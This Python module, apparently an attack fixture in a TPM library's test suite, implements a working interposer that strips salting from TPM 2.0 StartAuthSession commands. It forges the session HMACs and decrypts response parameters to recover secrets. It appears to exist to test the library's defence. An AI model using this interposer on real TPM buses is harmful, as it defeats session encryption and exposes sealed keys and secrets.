"""A working salt-stripping interposer: StartAuthSession carries no HMAC (Part 3 §11.1).

What it does:

1. ``StartAuthSession`` salted with any key: rewrites it into an unsalted,
   unbound session (tpmKey = TPM_RH_NULL, empty encryptedSalt). In ``"strip"``
   mode the client's nonceCaller is kept; in ``"own"`` mode the interposer starts a
   session of its own with a nonce it chose, and the client gets that session's
   handle. Either way the TPM's sessionKey is empty (Part 1 §19.6.8), which the
   interposer knows, while the client still computes a salted key.
2. Every later command using such a session: the interposer replaces the
   client's HMAC with the one the TPM expects under the empty key (HMAC sessions:
   HMAC keyed by the entity's authValue, assumed empty; policy sessions with no
   authValue: an empty HMAC), re-encrypting a ``decrypt`` parameter whose
   plaintext it knows (e.g. Load's inPrivate, which sits in NV or on disk).
3. Every response parameter the TPM encrypts under such a session: decrypted
   with key ‖ IV = KDFa(sessionKey ‖ authValue = "", "CFB", nonceTPM, nonceCaller).

The client can only notice at the first response HMAC it checks, because the
TPM's response HMACs are keyed with the empty key. A client that asks for an
encrypted response before that has already lost the secret; tpmseal confirms
every salted session first. Everything decrypted is in :attr:`SaltStripper.recovered`.
The arithmetic is tests/attacks/crypto.py's, independent of tpmseal.session.
"""

from __future__ import annotations

import hashlib
import hmac
import os
from dataclasses import dataclass, field

from attacks.crypto import cfb_crypt
from attacks.mitm import Recovered
from tpmseal.records import replace
from tpmseal.sniff.capture.hooks import HookContext, Verdict, build_command
from tpmseal.wire import commands as cmds
from tpmseal.wire.commands import REGISTRY
from tpmseal.wire.constants import TPM_CC, TPM_HT, TPM_RH, TPM_SE, TPM_ST, TPMA_SESSION, handle_type
from tpmseal.wire.frames import AuthCommand, AuthResponse, parse_header, split_command
from tpmseal.wire.frames import build_command as frame_command
from tpmseal.wire.marshal import Reader, u8, u32

HEADER = 10
_SELF_NAMED = {TPM_HT.PCR, TPM_HT.HMAC_SESSION, TPM_HT.POLICY_SESSION, TPM_HT.PERMANENT}


@dataclass
class Stripped:
    """A session whose TPM-side key the interposer knows (empty)."""

    handle: int
    kind: int
    nonce_tpm: bytes = field(repr=False)


@dataclass
class _Flight:
    code: int
    sessions: list[tuple[Stripped | None, AuthCommand]]
    start: tuple[int, bytes] | None = None  # (session kind, nonceCaller the TPM saw)


def _hmac(key: bytes, *parts: bytes) -> bytes:
    return hmac.new(key, b"".join(parts), hashlib.sha256).digest()


@dataclass
class SaltStripper:
    """Pass :meth:`on_command`/:meth:`on_response` to a proxy.

    *names*: Names of persistent handles the attacker read beforehand (public
    data); Names of loaded objects are learned from the bus. *known*: plaintexts of
    ``decrypt`` parameters the attacker can obtain elsewhere, by command name.
    """

    mode: str = "strip"
    names: dict[int, bytes] = field(default_factory=dict)
    known: dict[str, bytes] = field(default_factory=dict, repr=False)
    sessions: dict[int, Stripped] = field(default_factory=dict)
    recovered: list[Recovered] = field(default_factory=list)
    stripped: int = 0
    rehmaced: int = 0
    _flight: _Flight | None = None
    _contexts: dict[bytes, bytes] = field(default_factory=dict, repr=False)

    # ------------------------------------------------------------------ commands

    def on_command(self, ctx: HookContext) -> Verdict:
        self._flight = None
        tag = parse_header(ctx.command).tag
        if tag not in (TPM_ST.SESSIONS, TPM_ST.NO_SESSIONS) or ctx.code not in REGISTRY:
            return None
        if ctx.code == TPM_CC.StartAuthSession:
            cmd, start_auths = ctx.parse()
            assert isinstance(cmd, cmds.StartAuthSession)
            if cmd.tpm_key == TPM_RH.NULL or cmd.bind != TPM_RH.NULL:
                return None
            nonce = cmd.nonce_caller if self.mode == "strip" else os.urandom(
                len(cmd.nonce_caller))
            self.stripped += 1
            self._flight = _Flight(ctx.code, [], (cmd.session_type, nonce))
            return build_command(replace(cmd, tpm_key=TPM_RH.NULL, encrypted_salt=b"",
                                         nonce_caller=nonce), start_auths)
        cls = REGISTRY[ctx.code]
        frame = split_command(ctx.command, len(cls.layout().handles))
        flight = _Flight(ctx.code, [(self.sessions.get(a.session_handle), a)
                                    for a in frame.auths])
        self._flight = flight
        if ctx.code == TPM_CC.ContextLoad:
            return None
        if not any(s is not None for s, _ in flight.sessions):
            return None
        params = ctx.command[frame.params_offset:]
        for s, a in flight.sessions:
            if s is not None and a.attributes & TPMA_SESSION.decrypt and ctx.name in self.known:
                # the TPM decrypts under the empty key: give it the right plaintext
                plain = self.known[ctx.name]
                size = int.from_bytes(params[:2], "big")
                cipher = cfb_crypt(b"", a.nonce, s.nonce_tpm, plain, decrypt=False)
                assert len(cipher) == size
                params = params[:2] + cipher + params[2 + size:]
        n_auth = sum(1 for h in cls.layout().handles if h.auth)
        names = [self._name(h) for h in frame.handles]
        cp_hash = hashlib.sha256(u32(ctx.code) + b"".join(names) + params).digest()
        auths: list[AuthCommand] = []
        for i, (s, a) in enumerate(flight.sessions):
            if s is None:
                auths.append(a)
                continue
            if s.kind == TPM_SE.POLICY:
                mac = b""  # empty sessionKey, no authValue: no HMAC (as the TPM computes)
            else:
                extra = b""
                if i == 0 and n_auth:
                    for t, b in flight.sessions[1:]:
                        if t is not None and b.attributes & (TPMA_SESSION.decrypt
                                                             | TPMA_SESSION.encrypt):
                            extra += t.nonce_tpm
                mac = _hmac(b"", cp_hash, a.nonce, s.nonce_tpm, extra, u8(a.attributes))
            self.rehmaced += 1
            auths.append(replace(a, hmac=mac))
        return frame_command(ctx.code, frame.handles, auths, params)

    def _name(self, handle: int) -> bytes:
        if handle_type(handle) in _SELF_NAMED:
            return u32(handle)
        return self.names.get(handle, u32(handle))

    # ----------------------------------------------------------------- responses

    def on_response(self, ctx: HookContext) -> Verdict:
        assert ctx.response is not None
        flight, self._flight = self._flight, None
        if flight is None or int.from_bytes(ctx.response[6:10], "big") != 0:
            return None
        self._learn_names(ctx)
        if flight.start is not None:
            handle = int.from_bytes(ctx.response[10:14], "big")
            nonce_tpm = Reader(ctx.response, 14).tpm2b("nonceTPM")
            self.sessions[handle] = Stripped(handle, flight.start[0], nonce_tpm)
            return None
        if ctx.code == TPM_CC.FlushContext:
            self.sessions.pop(int.from_bytes(ctx.command[10:14], "big"), None)
            return None
        if not any(s is not None for s, _ in flight.sessions):
            return None
        lay = REGISTRY[ctx.code].RESPONSE.layout()
        r = Reader(ctx.response, HEADER + 4 * len(lay.handles))
        params = r.raw(r.u32("parameterSize"), "parameters")
        got = [AuthResponse.unmarshal(r) for _ in flight.sessions]
        for (s, sent), a in zip(flight.sessions, got, strict=True):
            if s is None:
                continue
            if sent.attributes & TPMA_SESSION.encrypt and len(params) >= 2:
                size = int.from_bytes(params[:2], "big")
                plain = cfb_crypt(b"", a.nonce, sent.nonce, params[2:2 + size])
                self.recovered.append(Recovered(ctx.name, "response", plain, True))
            s.nonce_tpm = a.nonce
            if not a.attributes & TPMA_SESSION.continueSession:
                self.sessions.pop(s.handle, None)
        return None

    def _learn_names(self, ctx: HookContext) -> None:
        """Names of objects, from responses that carry them (all public)."""
        assert ctx.response is not None
        r = ctx.response
        if ctx.code in (TPM_CC.Load, TPM_CC.LoadExternal):
            handle = int.from_bytes(r[10:14], "big")
            off = 14 + (4 if parse_header(r).tag == TPM_ST.SESSIONS else 0)
            self.names[handle] = Reader(r, off).tpm2b("name")
        elif ctx.code == TPM_CC.ContextSave:
            name = self.names.get(int.from_bytes(ctx.command[10:14], "big"))
            if name is not None:
                self._contexts[r[HEADER + 8:]] = name  # context minus sequence/handle
        elif ctx.code == TPM_CC.ContextLoad:
            name = self._contexts.get(ctx.command[HEADER + 8:])
            if name is not None:
                self.names[int.from_bytes(r[10:14], "big")] = name

    # -------------------------------------------------------------------- verdict

    def __repr__(self) -> str:  # recovered holds plaintext
        return (f"SaltStripper(mode={self.mode}, stripped={self.stripped}, "
                f"rehmaced={self.rehmaced}, recovered={self.recovered!r})")

    def got(self, secret: bytes) -> bool:
        return any(secret in r.data for r in self.recovered)

